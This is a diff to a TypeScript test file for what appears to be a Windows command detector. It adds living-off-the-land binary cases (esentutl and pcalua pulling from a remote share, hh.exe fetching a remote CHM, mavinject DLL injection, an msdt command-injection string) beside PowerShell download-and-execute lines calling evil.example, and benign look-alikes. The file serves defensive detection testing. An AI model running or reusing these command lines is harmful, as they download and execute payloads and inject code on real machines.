@@ -184,6 +184,23 @@ const POSITIVE: readonly (readonly [string, string, string])[] = [
     'critical',
   ],
   ["I`E`X (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')", 'windows.download-exec', 'critical'],
+  // System binaries that run or fetch code (after LOLBAS pages; paths and hosts chosen here).
+  [
+    'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe C:\\Users\\Public\\build.xml',
+    'windows.lolbin-exec',
+    'high',
+  ],
+  ['esentutl.exe /y \\\\198.51.100.8\\dav\\t.exe /d C:\\x\\log.txt:t.exe /o', 'windows.lolbin-download', 'high'],
+  ['forfiles /p c:\\windows\\system32 /m calc.exe /c "cmd /c %TEMP%\\svc.exe"', 'windows.lolbin-exec', 'high'],
+  ['pcalua.exe -a \\\\198.51.100.8\\share\\run.dll', 'windows.lolbin-exec', 'high'],
+  ['hh.exe http://198.51.100.8/help.chm', 'windows.lolbin-exec', 'critical'],
+  ['mavinject.exe 4242 /INJECTRUNNING C:\\ProgramData\\hook.dll', 'windows.lolbin-exec', 'high'],
+  ['regasm.exe /U C:\\Users\\Public\\lib.dll', 'windows.lolbin-exec', 'high'],
+  [
+    'msdt.exe /id PCWDiagnostic /skip force /param "IT_BrowseForFile=/../../$(notepad)"',
+    'windows.lolbin-exec',
+    'critical',
+  ],
   // The format operator builds the command's name from pieces.
   [
     "& (\"{1}{0}\" -f 'x','ie') (iwr http://evil.example/a.ps1 -UseBasicParsing).Content",
@@ -271,6 +288,11 @@ const NEGATIVE: readonly (readonly [string, string | null])[] = [
   ['Invoke-WebRequest -Uri https://nodejs.org/dist/node.exe -OutFile node.exe', null],
   ['reg add HKCU\\Environment /v Path /d "C:\\tools;%PATH%" /f', null],
   ["Write-Host ('{0} files in {1}' -f $n, $dir)", null],
+  ['msbuild MyApp.sln /p:Configuration=Release /m', null],
+  ['esentutl /y C:\\db\\app.edb /d D:\\backup\\app.edb', null],
+  ['forfiles /p C:\\logs /s /m *.log /d -30 /c "cmd /c del @path"', null],
+  ['hh.exe C:\\Windows\\Help\\mmc.chm', null],
+  ['regasm MyComponent.dll /tlb:MyComponent.tlb /codebase', null],
   ["'{0:N2} MB' -f ($bytes / 1MB)", null],
   ["$msg = '{0} downloaded from {1}' -f 'report.pdf','https://intranet.example/docs'", null],
 ];
